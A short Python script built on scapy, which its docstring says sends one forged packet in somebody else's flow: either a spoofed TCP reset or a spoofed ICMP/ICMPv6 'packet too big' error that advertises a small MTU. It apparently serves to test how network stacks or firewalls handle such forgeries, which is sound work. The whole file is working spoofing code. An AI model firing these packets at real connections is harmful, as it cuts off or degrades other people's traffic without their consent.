"""Sends one forged packet of somebody else's flow.

Arguments: interface, the gateway's Ethernet address there, what to forge, and source address,
source port, destination address and destination port of the forged packet ("reset") or of the
packet that the forged error is about ("small", or "narrow" with a larger MTU).
"""

import sys

from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import ICMPv6PacketTooBig, IPv6
from scapy.layers.l2 import Ether
from scapy.packet import Raw
from scapy.sendrecv import sendp

interface, mac, kind, source, source_port, destination, destination_port = sys.argv[1:]
ports = {"sport": int(source_port), "dport": int(destination_port)}
is_v6 = ":" in source
ip = IPv6 if is_v6 else IP
MTU = {"small": 552, "narrow": 1000}

if kind == "reset":
    packet = ip(src=source, dst=destination) / TCP(flags="R", seq=1, **ports)
else:
    quoted = ip(src=source, dst=destination) / UDP(**ports) / Raw(b"x" * 500)
    error = ICMPv6PacketTooBig(mtu=MTU[kind]) if is_v6 else ICMP(type=3, code=4, nexthopmtu=MTU[kind])
    packet = ip(src=destination, dst=source) / error / quoted

sendp(Ether(dst=mac) / packet, iface=interface, verbose=False)
